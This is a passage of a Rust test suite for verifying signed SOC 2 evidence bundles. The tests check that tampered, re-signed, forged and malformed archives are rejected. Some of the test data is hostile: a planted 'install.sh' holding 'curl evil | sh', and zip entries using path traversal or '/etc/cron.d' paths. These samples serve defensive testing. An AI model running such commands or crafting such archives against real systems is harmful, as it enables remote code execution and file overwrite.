        .env("ORIGIN", ORIGIN)
        .env("LC_ALL", "C.UTF-8")
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn workpapers_travel_under_report_and_verify_with_stock_tools() {
    if !stock_tools(&["bash", "ssh-keygen", "sha256sum", "unzip", "python3", "diff", "cut"]) {
        return;
    }
    let f = Fixture::new();
    let catalog = crate::Catalog::builtin();
    let evaluation =
        crate::evaluate_locker_with_populations(&catalog, &f.locker, &period(), period().end())
            .unwrap();
    let options = ExportOptions::from_evaluation(&catalog, &evaluation).unwrap();
    let bundle = f.path("workpapers.zip");
    export(&f.locker, &options, &f.signer, &bundle).unwrap();
    let m = Members::read(&bundle);
    let summary = m.text("report/workpapers/summary.csv");
    assert!(summary.starts_with("control,title,owner,test_procedure,"), "{summary}");
    assert!(summary.contains("\r\nAC-01,Quarterly access review"), "{summary}");
    assert!(m.text("report/workpapers/population/AC-01.csv").starts_with("item,kind,quarter,"));
    let manifest = m.text(MANIFEST);
    assert!(manifest.contains("\"report/workpapers/population/VEN-01.csv\""), "{manifest}");

    let trusted = f.path("trusted_signers");
    fs_err::write(&trusted, f.signer.allowed_signers_line()).unwrap();
    let work = f.path("auditor");
    fs_err::create_dir(&work).unwrap();
    let (ok, stdout, stderr) = run_verify_md(&bundle, &trusted, &work);
    assert!(ok, "stdout:\n{stdout}\nstderr:\n{stderr}");
    assert!(stdout.contains("manifest: OK"), "{stdout}");
    assert!(stdout.contains("verify.py: all checks passed"), "{stdout}");
}

#[test]
fn auditor_verifies_with_stock_tools() {
    if !stock_tools(&["bash", "ssh-keygen", "sha256sum", "unzip", "python3", "diff", "cut"]) {
        return;
    }
    let f = Fixture::new();
    // A signed checkpoint travels in the bundle: step 6 checks it with ssh-keygen.
    super::sign_checkpoint(&f.locker, &f.signer).unwrap();
    let mut options = ExportOptions::new(period());
    options.report_files = vec![("readiness.json".into(), b"{}\n".to_vec())];
    let bundle = f.path("stock.zip");
    export(&f.locker, &options, &f.signer, &bundle).unwrap();
    let trusted = f.path("trusted_signers");
    fs_err::write(&trusted, f.signer.allowed_signers_line()).unwrap();

    let m = Members::read(&bundle);
    let blocks = sh_blocks(&m.text(VERIFY_MD));
    assert_eq!(
        blocks.len(),
        8,
        "extract, signature, sums, attachments, member list, records, signed checkpoints, verify.py"
    );
    assert!(blocks[1].starts_with(
        "ssh-keygen -Y verify -f \"$TRUSTED\" -I auditor-contact@example.com -n soc2-evidence-bundle-v1 -s SHA256SUMS.sig < SHA256SUMS"
    ));
    assert_eq!(blocks[2], "sha256sum -c --strict SHA256SUMS\n");

    let work = f.path("auditor");
    fs_err::create_dir(&work).unwrap();
    let (ok, stdout, stderr) = run_verify_md(&bundle, &trusted, &work);
    assert!(ok, "stdout:\n{stdout}\nstderr:\n{stderr}");
    let said = format!("{stdout}{stderr}");
    assert!(
        said.contains("Good \"soc2-evidence-bundle-v1\" signature for auditor-contact@example.com"),
        "{said}"
    );
    assert!(stdout.contains("records.jsonl: OK"), "{stdout}");
    assert!(stdout.contains("member list: OK"), "{stdout}");
    assert!(stdout.contains("records: OK, 3 records match the root of 5 leaves"), "{stdout}");
    assert!(stdout.contains("attachments: OK"), "{stdout}");
    assert!(stdout.contains("manifest: OK"), "{stdout}");
    assert!(
        said.contains("Good \"soc2-checkpoint-v1\" signature for auditor-contact@example.com"),
        "{said}"
    );
    assert!(stdout.contains("signed checkpoints: OK, the bundle extends all 1"), "{stdout}");
    assert!(stdout.contains("verify.py: all checks passed"), "{stdout}");

    // The same commands reject a tampered bundle at the step that covers it.
    type Mutation = fn(&mut Members);
    let cases: Vec<(&str, Mutation)> = vec![
        (
            "signature",
            // Lists a member twice: only the signature stops it.
            |m: &mut Members| {
                let s = m.text(SUMS);
                let first = s.lines().next().unwrap().to_owned();
                m.set(SUMS, format!("{first}\n{s}"));
            },
        ),
        ("sums", |m: &mut Members| {
            let name = m.blob_names()[0].clone();
            let mut b = m.get(&name).clone();
            b[0] ^= 1;
            m.set(&name, b);
        }),
        ("member list", |m: &mut Members| m.set("report/extra.txt", "unlisted")),
    ];
    for (i, (what, mutate)) in cases.iter().enumerate() {
        let mut bad = m.clone();
        mutate(&mut bad);
        let path = f.path(&format!("tampered-{i}.zip"));
        bad.write(&path);
        let work = f.path(&format!("auditor-{i}"));
        fs_err::create_dir(&work).unwrap();
        let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
        assert!(!ok, "{what}: accepted\n{stdout}\n{stderr}");
    }
}

/// Issue 16, hole 1: the company signs the bundle, so it is the party the auditor must
/// not have to trust. Each bundle here was tampered with and then re-signed with the
/// company's own (trusted) key, with `SHA256SUMS` recomputed: the signature and
/// `sha256sum -c` pass. The stock path of VERIFY.md must still fail, at the step named
/// (the expected text is written by hand), and so must `soc2 verify`.
#[test]
fn resigned_tampering_is_caught_by_the_stock_path_and_by_soc2_verify() {
    if !stock_tools(&["bash", "ssh-keygen", "sha256sum", "unzip", "python3", "diff", "awk"]) {
        return;
    }
    let f = Fixture::new();
    let mut options = ExportOptions::new(period());
    options.report_files = vec![("readiness.json".into(), b"{}\n".to_vec())];
    let bundle = f.path("clean.zip");
    export(&f.locker, &options, &f.signer, &bundle).unwrap();
    let trusted = f.path("trusted_signers");
    fs_err::write(&trusted, f.signer.allowed_signers_line()).unwrap();
    let clean = Members::read(&bundle);
    // The disclosed records are 1 (the CSV), 2 (no attachment) and 3 (the CSV and PNG).
    let record_line = |m: &Members, seq: u64| -> String {
        lines(&m.text(RECORDS))
            .into_iter()
            .find(|l| l.starts_with("{\"evidence\"") && l.contains(&format!("\"seq\":{seq}}}")))
            .unwrap()
    };
    let verify_expecting_origin = |path: &Path| {
        let o = VerifyOptions { origin: Some(ORIGIN.to_owned()), ..VerifyOptions::default() };
        verify_with(path, &f.trusted(), &o)
    };
    type Tamper = Box<dyn Fn(&mut Members)>;
    type Expect = fn(&BundleError) -> bool;
    let cases: Vec<(&str, Tamper, &str, Expect)> = vec![
        (
            "attachment swapped for other content of the same size",
            Box::new(|m: &mut Members| {
                let name = m.blob_names()[0].clone();
                let mut b = m.get(&name).clone();
                b[0] ^= 0xff;
                m.set(&name, b);
            }),
            "attachments: FAILED",
            |e| matches!(e, BundleError::BlobNameMismatch { .. }),
        ),
        (
            "record line dropped",
            Box::new(move |m: &mut Members| {
                let drop = record_line(m, 2);
                let kept: String =
                    lines(&m.text(RECORDS)).into_iter().filter(|l| *l != drop).collect();
                m.set(RECORDS, kept);
            }),
            "FAILED: manifest.json lists records [1, 2, 3], records.jsonl holds [1, 3]",
            |e| matches!(e, BundleError::ManifestMismatch { field: "records", .. }),
        ),
        (
            "record line duplicated",
            Box::new(move |m: &mut Members| {
                let twice = record_line(m, 2);
                let doubled: String = lines(&m.text(RECORDS))
                    .into_iter()
                    .flat_map(|l| if l == twice { vec![l.clone(), l] } else { vec![l] })
                    .collect();
                m.set(RECORDS, doubled);
            }),
            "FAILED: record 2 (line 3) is not after record 2",
            |e| matches!(e, BundleError::RecordOutOfPlace { seq: 2, line: 3, .. }),
        ),
        (
            "report file listed in SHA256SUMS but not in the manifest",
            Box::new(|m: &mut Members| m.set("report/extra.html", "<p>trust me</p>\n")),
            "FAILED: manifest.json's report files are not the files under report/",
            |e| matches!(e, BundleError::ManifestMismatch { field: "report", .. }),
        ),
        (
            "member of no bundle kind listed in SHA256SUMS",
            Box::new(|m: &mut Members| m.set("install.sh", "curl evil | sh\n")),
            "FAILED: SHA256SUMS lists members that are not the bundle's: ['install.sh']",
            |e| matches!(e, BundleError::UnexpectedMember { member } if member == "install.sh"),
        ),
        (
            "attachment no record references",
            Box::new(|m: &mut Members| {
                let content = b"an unreferenced attachment";
                let name =
                    format!("{BLOBS_PREFIX}{}", Sha256Digest(Sha256::digest(content).into()));
                m.set(&name, &content[..]);
            }),
            "FAILED: attachments present",
            |e| matches!(e, BundleError::UnreferencedBlob { .. }),
        ),
        (
            "manifest naming another origin",
            Box::new(|m: &mut Members| {
                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
            }),
            "FAILED: manifest.json names the locker 'example.com/soc2/other', the checkpoint 'example.com/soc2/acme'",
            |e| matches!(e, BundleError::ManifestMismatch { field: "origin", .. }),
        ),
        (
            "another locker, consistently renamed",
            Box::new(|m: &mut Members| {
                let cp = m.text(CHECKPOINT).replacen(ORIGIN, "example.com/soc2/other", 1);
                m.set(CHECKPOINT, cp);
                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
            }),
            "FAILED: the locker is 'example.com/soc2/other', not the 'example.com/soc2/acme' you expect",
            |e| matches!(e, BundleError::OriginMismatch { found, .. } if found == "example.com/soc2/other"),
        ),
    ];
    for (i, (what, tamper, stock_says, soc2_says)) in cases.iter().enumerate() {
        let mut bad = clean.clone();
        tamper(&mut bad);
        bad.resign(&f.signer);
        let path = f.path(&format!("resigned-{i}.zip"));
        bad.write(&path);
        let work = f.path(&format!("resigned-{i}"));
        fs_err::create_dir(&work).unwrap();
        let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
        let said = format!("{stdout}{stderr}");
        assert!(!ok, "{what}: the stock path accepted it\n{said}");
        // Re-signed: the signature and SHA256SUMS steps pass; a later step fails.
        assert!(said.contains("Good \"soc2-evidence-bundle-v1\" signature"), "{what}: {said}");
        assert!(!said.contains("FAILED open or read"), "{what}: {said}");
        assert!(said.contains(stock_says), "{what}: expected {stock_says:?}\n{said}");
        match verify_expecting_origin(&path) {
            Err(e) => assert!(soc2_says(&e), "{what}: soc2 verify said {e:?}"),
            Ok(_) => panic!("{what}: soc2 verify accepted it"),
        }
    }
    // Without an expected origin, a consistently renamed locker verifies: only the origin
    // obtained out of band (ORIGIN, --origin) tells it from the real one.
    let renamed = f.path(&format!("resigned-{}.zip", cases.len() - 1));
    assert!(f.verify(&renamed).is_ok());
}

#[test]
fn openssh_keys_and_signatures_interoperate() {
    if !stock_tools(&["ssh-keygen"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // A key made by ssh-keygen signs bundles; with a passphrase too.
    for (name, pass) in [("plain", ""), ("locked", "s3cret")] {
        let key = dir.path().join(name);
        let status = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-C", "ops@example.com", "-N", pass, "-f"])
            .arg(&key)
            .status()
            .unwrap();
        assert!(status.success());
        let passphrase = (!pass.is_empty()).then_some(pass.as_bytes());
        let signer = Signer::load(&key, passphrase).unwrap();
        assert_eq!(signer.principal(), "ops@example.com");

        // ssh-keygen's signature verifies with our verifier's signature check...
        let msg = dir.path().join("msg");
        fs_err::write(&msg, b"abc  SHA256SUMS-like\n").unwrap();
        let out = Command::new("ssh-keygen")
            .args(["-Y", "sign", "-n", NAMESPACE, "-P", pass, "-f"])
            .arg(&key)
            .arg(&msg)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        let theirs = fs_err::read(dir.path().join("msg.sig")).unwrap();
        let ours = signer.sign(b"abc  SHA256SUMS-like\n").unwrap();
        // Ed25519 is deterministic: the very same bytes.
        assert_eq!(String::from_utf8(theirs).unwrap(), ours);
        fs_err::remove_file(dir.path().join("msg.sig")).unwrap();
    }
}

// ---------------------------------------------------------------- signer trust

#[test]
fn verify_with_identity() {
    let f = Fixture::new();
    let out = f.export_to("id.zip");
    let trusted = f.trusted();
    let v =
        verify_with(&out, &trusted, &VerifyOptions::with_identity("auditor-contact@example.com"))
            .unwrap();
    assert_eq!(v.principal, "auditor-contact@example.com");
    assert_err!(
        verify_with(&out, &trusted, &VerifyOptions::with_identity("someone-else")),
        BundleError::IdentityNotAllowed { identity, .. } if identity == "someone-else"
    );
    // A pattern line trusts the key for several principals.
    let line = format!("*@example.com {}\n", f.signer.public_key_openssh());
    let patterns = AllowedSigners::parse(line.as_bytes()).unwrap();
    let v = verify(&out, &patterns).unwrap();
    assert_eq!(v.principal, "auditor-contact@example.com");
    let v = verify_with(&out, &patterns, &VerifyOptions::with_identity("x@example.com")).unwrap();
    assert_eq!(v.principal, "x@example.com");
}

#[test]
fn rejects_wrong_key() {
    let f = Fixture::new();
    let out = f.export_to("k.zip");
    let other = Signer::generate("auditor-contact@example.com").unwrap();
    let trusted = AllowedSigners::parse(other.allowed_signers_line().as_bytes()).unwrap();
    assert_err!(
        verify(&out, &trusted),
        BundleError::UntrustedKey { fingerprint } if *fingerprint == f.signer.fingerprint()
    );
}

#[test]
fn rejects_bad_signature() {
    let f = Fixture::new();
    let mut m = f.members();
    // SHA256SUMS changed after signing (consistently with the members, so that only the
    // signature can tell).
    let name = m.blob_names()[0].clone();
    let mut blob = m.get(&name).clone();
    blob[0] ^= 1;
    m.set(&name, blob);
    m.relist();
    assert_err!(f.check(&m, false), BundleError::BadSignature { .. });
}

#[test]
fn rejects_signature_naming_the_trusted_key_but_made_by_another() {
    let f = Fixture::new();
    let mut m = f.members();
    // A forger signs with their own key, then swaps the trusted public key into the
    // signature: only verifying with the trusted key catches it.
    let forger = Signer::generate("x").unwrap();
    let forged = forger.sign(m.get(SUMS)).unwrap();
    let sig = ssh_key::SshSig::from_pem(forged.as_bytes()).unwrap();
    let swapped = ssh_key::SshSig::new(
        f.signer.public_key().key_data().clone(),
        NAMESPACE,
        HashAlg::Sha512,
        sig.signature().clone(),
    )
    .unwrap();
    m.set(SUMS_SIG, swapped.to_pem(LineEnding::LF).unwrap());
    assert_err!(f.check(&m, false), BundleError::BadSignature { .. });
}

#[test]
fn rejects_wrong_namespace() {
    let f = Fixture::new();
    let mut m = f.members();
    // A real signature by the trusted key over these very bytes, made for another use.
    let key = f.signer.private_key();
    let sig = key.sign("file", HashAlg::Sha512, m.get(SUMS)).unwrap();
    m.set(SUMS_SIG, sig.to_pem(LineEnding::LF).unwrap());
    assert_err!(
        f.check(&m, false),
        BundleError::WrongNamespace { found, .. } if found == "file"
    );
}

#[test]
fn rejects_key_not_allowed_for_the_namespace_or_time() {
    let f = Fixture::new();
    let out = f.export_to("ns.zip");
    let key = f.signer.public_key_openssh();
    let only_git = format!("auditor-contact@example.com namespaces=\"git\" {key}\n");
    let trusted = AllowedSigners::parse(only_git.as_bytes()).unwrap();
    assert_err!(verify(&out, &trusted), BundleError::SignerNotValid { line: 1, .. });
    let expired = format!("auditor-contact@example.com valid-before=\"20200101Z\" {key}\n");
    let trusted = AllowedSigners::parse(expired.as_bytes()).unwrap();
    assert_err!(
        verify(&out, &trusted),
        BundleError::SignerNotValid { reason, .. } if reason.contains("before")
    );
}

#[test]
fn rejects_malformed_signature() {
    let f = Fixture::new();
    let mut m = f.members();
    m.set(SUMS_SIG, "-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n");
    assert_err!(f.check(&m, false), BundleError::SignatureMalformed { .. });
}

#[test]
fn rejects_signature_armor_the_stock_path_rejects() {
    // Hole 7: `ssh-keygen -Y verify` fails on these; so must `soc2 verify`.
    let f = Fixture::new();
    let m = f.members();
    let armor = m.text(SUMS_SIG);
    let variants = [
        ("CRLF line endings", armor.replace('\n', "\r\n")),
        ("no final newline", armor.trim_end().to_owned()),
        ("a trailing blank line", format!("{armor}\n")),
        ("one long base64 line", {
            let lines: Vec<&str> = armor.lines().collect();
            let body: String = lines[1..lines.len() - 1].concat();
            format!("{}\n{body}\n{}\n", lines[0], lines[lines.len() - 1])
        }),
    ];
    for (what, text) in variants {
        let mut m = m.clone();
        m.set(SUMS_SIG, text);
        let result = f.check(&m, false);
        assert!(
            matches!(result, Err(BundleError::SignatureMalformed { .. })),
            "{what}: {:?}",
            result.map(|_| ())
        );
    }
}

// ---------------------------------------------------------------- SHA256SUMS

#[test]
fn rejects_member_not_in_sums() {
    let f = Fixture::new();
    let mut m = f.members();
    m.set("report/notes.txt", "added later");
    assert_err!(
        f.check(&m, false),
        BundleError::MemberNotListed { member } if member == "report/notes.txt"
    );
}

#[test]
fn rejects_listed_member_missing() {
    let f = Fixture::new();
    let mut m = f.members();
    let name = m.blob_names()[0].clone();
    m.remove(&name);
    assert_err!(
        f.check(&m, false),
        BundleError::ListedMemberMissing { member } if *member == name
    );
}

#[test]
fn rejects_wrong_hash() {
    let f = Fixture::new();
    let mut m = f.members();
    let name = m.blob_names()[1].clone();
    let mut blob = m.get(&name).clone();
    blob[0] ^= 1;
    m.set(&name, blob);
    assert_err!(
        f.check(&m, false),
        BundleError::WrongHash { member, .. } if *member == name
    );
}

#[test]
fn rejects_wrong_hash_of_metadata() {
    let f = Fixture::new();
    let mut m = f.members();
    let text = m.text(VERIFY_MD).replace("Verifying", "Verifyinf");
    m.set(VERIFY_MD, text);
    assert_err!(
        f.check(&m, false),
        BundleError::WrongHash { member, .. } if member == VERIFY_MD
    );
}

#[test]
fn rejects_malformed_sums() {
    let f = Fixture::new();
    let mut m = f.members();
    let text = m.text(SUMS).replacen("  ", " *", 1);
    m.set(SUMS, text);
    let sig = f.signer.sign(m.get(SUMS)).unwrap();
    m.set(SUMS_SIG, sig);
    assert_err!(f.check(&m, false), BundleError::SumsMalformed { line: 1, .. });
}

#[test]
fn rejects_blob_listed_under_another_hash() {
    let f = Fixture::new();
    let mut m = f.members();
    // Move a blob's content under another blob name; SHA256SUMS is consistent and
    // signed, but a blob's name must be its hash.
    let names = m.blob_names();
    let content = m.get(&names[0]).clone();
    m.remove(&names[0]);
    let fake = format!("{BLOBS_PREFIX}{}", "0".repeat(64));
    m.set(&fake, content);
    assert_err!(
        f.check(&m, true),
        BundleError::BlobNameMismatch { member, .. } if *member == fake
    );
}

// ---------------------------------------------------------------- members

#[test]
fn rejects_unexpected_member() {
    let f = Fixture::new();
    let mut m = f.members();
    m.set("notes.txt", "listed and signed, but not part of the format");
    assert_err!(
        f.check(&m, true),
        BundleError::UnexpectedMember { member } if member == "notes.txt"
    );
    let mut m = f.members();
    m.set("blobs/sha256/nothex", "x");
    assert_err!(f.check(&m, true), BundleError::UnexpectedMember { .. });
}

#[test]
fn rejects_missing_required_member() {
    let f = Fixture::new();
    for name in [VERIFY_MD, ALLOWED_SIGNERS, LEAVES, MANIFEST, RECORDS, CHECKPOINT, SUMS_SIG] {
        let mut m = f.members();
        m.remove(name);
        assert_err!(
            f.check(&m, name != SUMS_SIG),
            BundleError::MissingMember { member } if member == name
        );
    }
}

#[test]
fn rejects_oversized_metadata() {
    let f = Fixture::new();
    let out = f.export_to("big.zip");
    let options = VerifyOptions { max_metadata_size: 200, ..VerifyOptions::default() };
    assert_err!(verify_with(&out, &f.trusted(), &options), BundleError::MemberTooLarge { .. });
}

// ---------------------------------------------------------------- checkpoint, leaves, records

#[test]
fn rejects_leaves_that_do_not_match_the_root() {
    let f = Fixture::new();
    let mut m = f.members();
    let mut text = m.text(LEAVES);
    // Flip one hex digit of leaf 4 (not disclosed).
    let pos = 4 * 65 + 10;
    let c = if &text[pos..=pos] == "0" { "1" } else { "0" };
    text.replace_range(pos..=pos, c);
    m.set(LEAVES, text);
    assert_err!(f.check(&m, true), BundleError::RootMismatch { .. });
}

#[test]
fn rejects_leaf_count_that_differs_from_the_checkpoint() {
    let f = Fixture::new();
    let mut m = f.members();
    let text = m.text(LEAVES);
    m.set(LEAVES, &text[..4 * 65]);
    assert_err!(f.check(&m, true), BundleError::LeafCountMismatch { expected: 5, found: 4 });
}

#[test]
fn rejects_malformed_leaves_and_checkpoint() {
    let f = Fixture::new();
    let mut m = f.members();
    let text = m.text(LEAVES).to_uppercase();
    m.set(LEAVES, text);
    assert_err!(f.check(&m, true), BundleError::LeavesMalformed { line: 1, .. });
    let mut m = f.members();
    let text = m.text(LEAVES);
    m.set(LEAVES, text.trim_end());
    assert_err!(f.check(&m, true), BundleError::LeavesMalformed { line: 5, .. });
    let mut m = f.members();
    let text = m.text(CHECKPOINT) + "extension line\n";
    m.set(CHECKPOINT, text);
    assert_err!(f.check(&m, true), BundleError::CheckpointInvalid(_));
}

#[test]
fn rejects_record_that_does_not_match_its_leaf() {
    let f = Fixture::new();
    let mut m = f.members();
    let text = m.text(RECORDS).replace("Q2 access review", "Q2 access reviev");
    m.set(RECORDS, text);
    assert_err!(f.check(&m, true), BundleError::RecordLeafMismatch { seq: 3, line: 3, .. });
}

#[test]
fn rejects_broken_chain_even_with_leaves_and_root_recomputed() {
    let f = Fixture::new();
    let mut m = f.members();
    // Forge record 2's prev, then recompute its leaf, the root, the checkpoint and the
    // manifest so that everything but the chain agrees.
    let mut records = lines(&m.text(RECORDS));
    let forged = records[1].replacen(
        &format!("\"prev\":\"{}\"", hex::encode(f.locker.leaf_hashes()[1])),
        &format!("\"prev\":\"{}\"", "ab".repeat(32)),
        1,
    );
    assert_ne!(forged, records[1]);
    records[1] = forged;
    m.set(RECORDS, records.concat());
    let mut leaves = f.locker.leaf_hashes().to_vec();
    leaves[2] = crate::ledger::merkle::leaf_hash(records[1].trim_end().as_bytes());
    let leaves_text: String = leaves.iter().map(|l| hex::encode(l) + "\n").collect();
    m.set(LEAVES, leaves_text);
    let root = crate::ledger::merkle::root(&leaves);
    let cp = crate::ledger::Checkpoint { origin: ORIGIN.into(), size: 5, root };
    m.set(CHECKPOINT, cp.to_text());
    m.edit_manifest(|v| {
        v["checkpoint"]["root"] = hex::encode(root).into();
        v["records"][1]["leaf_hash"] = hex::encode(leaves[2]).into();
    });
    assert_err!(f.check(&m, true), BundleError::ChainMismatch { seq: 2, line: 2, .. });
}

#[test]
fn rejects_records_out_of_order_or_beyond_the_checkpoint() {
    let f = Fixture::new();
    let mut m = f.members();
    let mut records = lines(&m.text(RECORDS));
    records.swap(0, 1);
    m.set(RECORDS, records.concat());
    assert_err!(f.check(&m, true), BundleError::RecordOutOfPlace { seq: 1, line: 2, .. });

    // A record the checkpoint does not cover: export the full locker's record 4, then
    // cut the leaves and checkpoint to 4 records.
    let mut options = ExportOptions::new(period());
    options.disclose = DisclosureSet::Exactly(BTreeSet::from([4]));
    let out = f.path("four.zip");
    export(&f.locker, &options, &f.signer, &out).unwrap();
    let mut m = Members::read(&out);
    let leaves = f.locker.leaf_hashes()[..4].to_vec();
    m.set(LEAVES, leaves.iter().map(|l| hex::encode(l) + "\n").collect::<String>());
    let cp = crate::ledger::Checkpoint {
        origin: ORIGIN.into(),
        size: 4,
        root: crate::ledger::merkle::root(&leaves),
    };
    m.set(CHECKPOINT, cp.to_text());
    assert_err!(f.check(&m, true), BundleError::RecordOutOfPlace { seq: 4, line: 1, .. });
}

#[test]
fn rejects_record_not_in_canonical_form() {
    let f = Fixture::new();
    let mut m = f.members();
    let mut records = lines(&m.text(RECORDS));
    records[0] = records[0].replacen("{\"evidence\":", "{ \"evidence\":", 1);
    m.set(RECORDS, records.concat());
    assert_err!(f.check(&m, true), BundleError::RecordNotCanonical { seq: 1, line: 1 });
    let mut m = f.members();
    let mut records = lines(&m.text(RECORDS));
    records[2] = "{\"seq\": 1.5}\n".into();
    m.set(RECORDS, records.concat());
    assert_err!(f.check(&m, true), BundleError::RecordInvalid { line: 3, .. });
}

#[test]
fn rejects_missing_referenced_blob() {
    let f = Fixture::new();
    let mut m = f.members();
    let csv = f.locker.record(1).unwrap().evidence.attachments[0].sha256;
    m.remove(&format!("{BLOBS_PREFIX}{csv}"));
    assert_err!(
        f.check(&m, true),
        BundleError::BlobMissing { seq: 1, sha256 } if *sha256 == csv
    );
}

#[test]
fn rejects_blob_of_the_wrong_size_for_its_record() {
    let f = Fixture::new();
    // In a whole bundle a blob's name is its SHA-256 and its record's leaf fixes the
    // declared size, so a size mismatch takes a hash collision: test the check itself.
    let mut blobs = BTreeMap::new();
    let rec = f.locker.record(1).unwrap();
    let a = &rec.evidence.attachments[0];
    blobs.insert(a.sha256, a.size + 1);
    let line = crate::json::to_canonical_vec(&rec).unwrap();
    let mut text = line.clone();
    text.push(b'\n');
    assert_err!(
        super::verify::check_records(&text, f.locker.leaf_hashes(), &blobs),
        BundleError::BlobSizeMismatch { seq: 1, .. }
    );
}

#[test]
fn rejects_unreferenced_blob() {
    let f = Fixture::new();
    let mut m = f.members();
    let content = b"smuggled in".to_vec();
    let name = format!("{BLOBS_PREFIX}{}", hex::encode(Sha256::digest(&content)));
    m.set(&name, content);
    assert_err!(f.check(&m, true), BundleError::UnreferencedBlob { .. });
}

// ---------------------------------------------------------------- manifest

#[test]
fn rejects_manifest_that_disagrees() {
    let f = Fixture::new();
    type Edit = fn(&mut serde_json::Value);
    let cases: [(&str, Edit); 6] = [
        ("origin", |v| v["origin"] = "example.com/other".into()),
        ("checkpoint", |v| v["checkpoint"]["size"] = 4.into()),
        ("records", |v| {
            v["records"].as_array_mut().unwrap().pop();
        }),
        ("blobs", |v| v["blobs"][0]["size"] = 1.into()),
        ("report", |v| {
            v["report"] =
                serde_json::json!([{"name": "report/x", "sha256": "00".repeat(32), "size": 0}]);
        }),
        ("signer.public_key", |v| {
            v["signer"]["public_key"] =
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILM+rvN+ot98qgEN796jTiQfZfG1KaT0PtFDJ/XFSqti"
                    .into();
        }),
    ];
    for (field, edit) in cases {
        let mut m = f.members();
        m.edit_manifest(edit);
        assert_err!(
            f.check(&m, true),
            BundleError::ManifestMismatch { field: f, .. } if *f == field
        );
    }
}

#[test]
fn rejects_invalid_or_unsupported_manifest() {
    let f = Fixture::new();
    let mut m = f.members();
    m.edit_manifest(|v| v["format_version"] = 2.into());
    assert_err!(f.check(&m, true), BundleError::UnsupportedFormat { version: 2, .. });
    let mut m = f.members();
    m.edit_manifest(|v| v["surprise"] = true.into());
    assert_err!(f.check(&m, true), BundleError::ManifestInvalid(_));
    let mut m = f.members();
    let text = m.text(MANIFEST).replacen('{', "{\"origin\": \"x\",", 1);
    m.set(MANIFEST, text);
    assert_err!(f.check(&m, true), BundleError::ManifestInvalid(e) if e.reason.contains("duplicate"));
}

// ---------------------------------------------------------------- hostile zips

/// Appends a hostile entry to a valid bundle's raw archive.
/// Byte ranges (offset, length, field) of the metadata fields of every local header
/// and central directory entry of a bundle: the fields no signature covers.
fn unsigned_zip_fields(bytes: &[u8]) -> Vec<(usize, usize, String)> {
    let u16_at = |at: usize| u16::from_le_bytes([bytes[at], bytes[at + 1]]) as usize;
    let u32_at = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
    let eocd = bytes.len() - 22;
    assert_eq!(u32_at(eocd), 0x0605_4b50, "a bundle without a comment ends with the end record");
    let (count, mut at) = (u16_at(eocd + 10), u32_at(eocd + 16));
    let mut fields = Vec::new();
    for _ in 0..count {
        assert_eq!(u32_at(at), 0x0201_4b50);
        let name = String::from_utf8_lossy(&bytes[at + 46..at + 46 + u16_at(at + 28)]).into_owned();
        let local = u32_at(at + 42);
        for (offset, len, field) in [
            (at + 4, 2, "central version made by"),
            (at + 6, 2, "central version needed"),
            (at + 8, 2, "central flags"),
            (at + 12, 2, "central time"),
            (at + 14, 2, "central date"),
            (at + 34, 2, "central disk number"),
            (at + 36, 2, "central internal attributes"),
            (at + 38, 4, "central external attributes"),
            (local + 4, 2, "local version needed"),
            (local + 6, 2, "local flags"),
            (local + 10, 2, "local time"),
            (local + 12, 2, "local date"),
        ] {
            fields.push((offset, len, format!("{name}: {field}")));
        }
        at += 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
    }
    fields
}

#[test]
fn every_bit_flip_in_unsigned_zip_metadata_fails_verification() {
    // Hole 7: none of these fields is signed, so any value but the writer's would make
    // a second spelling of the bundle (and setuid or unreadable modes, a "version needed"
    // the stock unzip refuses, ...). Every single-bit flip must fail.
    let f = Fixture::new();
    let path = f.export_to("flips.zip");
    let bytes = fs_err::read(&path).unwrap();
    let fields = unsigned_zip_fields(&bytes);
    assert!(fields.len() >= 12 * 8, "{} fields", fields.len());
    let flipped = f.path("flipped.zip");
    let mut accepted = Vec::new();
    let mut tried = 0;
    for (offset, len, field) in &fields {
        for bit in 0..len * 8 {
            let mut mutated = bytes.clone();
            mutated[offset + bit / 8] ^= 1 << (bit % 8);
            fs_err::write(&flipped, &mutated).unwrap();
            tried += 1;
            if f.verify(&flipped).is_ok() {
                accepted.push(format!("{field} bit {bit}"));
            }
        }
    }
    assert!(accepted.is_empty(), "{} of {tried} flips verified: {accepted:?}", accepted.len());
}

#[test]
fn rejects_version_needed_the_stock_unzip_refuses() {
    // `unzip` skips a member needing "PK compat. v9.9"; the reader must not accept it.
    let f = Fixture::new();
    let mut raw = f.raw();
    raw.entries[0] = raw.entries[0].clone().both(|h| h.version_needed = 99);
    raw.entries[0].made_by = (3 << 8) | 99;
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::NonCanonicalField {
            field: "version needed to extract",
            found: 99,
            ..
        })
    );
}

fn with_entry(f: &Fixture, entry: RawEntry) -> RawArchive {
    let mut raw = f.raw();
    raw.entries.push(entry);
    raw
}

#[test]
fn baseline_raw_rebuild_verifies() {
    let f = Fixture::new();
    f.check_raw(&f.raw()).unwrap();
}

#[test]
fn rejects_parent_traversal() {
    let f = Fixture::new();
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored("report/../../evil", b"x"))),
        BundleError::Archive(ArchiveError::ParentTraversal { .. })
    );
}

#[test]
fn rejects_absolute_path() {
    let f = Fixture::new();
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored("/etc/cron.d/x", b"x"))),
        BundleError::Archive(ArchiveError::AbsolutePath { .. })
    );
}

#[test]
fn rejects_backslash() {
    let f = Fixture::new();
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored("report\\x", b"x"))),
        BundleError::Archive(ArchiveError::Backslash { .. })
    );
}

#[test]
fn rejects_nul_in_name() {
